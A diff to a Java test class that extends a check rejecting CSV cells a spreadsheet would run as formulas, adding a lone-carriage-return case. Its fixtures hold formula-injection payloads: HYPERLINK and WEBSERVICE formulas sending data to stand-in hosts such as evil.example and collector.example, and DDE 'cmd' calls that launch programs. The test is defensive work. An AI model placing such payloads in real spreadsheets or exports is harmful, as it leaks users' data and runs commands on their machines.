@@ -77,7 +77,7 @@ class DownloadsTest {
 
     @Test
     void aCellThatAGivenSpreadsheetRunsAsAFormulaIsRefusedAtItsLine(@TempDir Path tmp) {
-        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv", "sylk.csv");
+        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv", "sylk.csv", "cr.csv");
         f.write(DIR + "data.csv", "name,link\nok,1\nleak,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"x\"\")\"\ncalc,-2+3+cmd|' /C calc'!A0\n"
                 + "sum,@SUM(1+1)*cmd|' /C calc'!A0\nspace, =1+1\n");
         f.write(DIR + "semi.csv", "name;value\nx;=1+1\n+7,x\n");
@@ -86,7 +86,11 @@ class DownloadsTest {
         f.write(DIR + "sep.csv", "sep=|\nname|value\nx|=HYPERLINK(\"http://evil.example/?leak\")\n");
         f.write(DIR + "lenient.csv", "x;\"a\"b,c\ny;=HYPERLINK(\"http://evil.example/\")\n");
         f.write(DIR + "sylk.csv", "ID;P\nC;Y1;X1;K0;EWEBSERVICE(\"https://collector.example/c\")\nE\n");
+        // A lone CR ends a row for a spreadsheet (an attacker's trial: read with commas the formula is inside a quoted cell, and
+        // the lines read with semicolons broke at LF only, so it never began a cell).
+        f.write(DIR + "cr.csv", "name,value\r\na\t\"e\"f;\"b,\"c\r=cmd|' /C calc'!A0;d\"\r\n");
         List<String> m = failing(f);
+        has(m, DIR + "cr.csv:3: the cell `=cmd|' /C calc'!A0`" + " (read with semicolons");
         has(m, DIR + "data.csv:3: the cell `=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")` starts with `=`: a spreadsheet opening the"
                 + " download runs it as a formula");
         has(m, DIR + "data.csv:4: the cell `-2+3+cmd|' /C calc'!A0` starts with `-`");
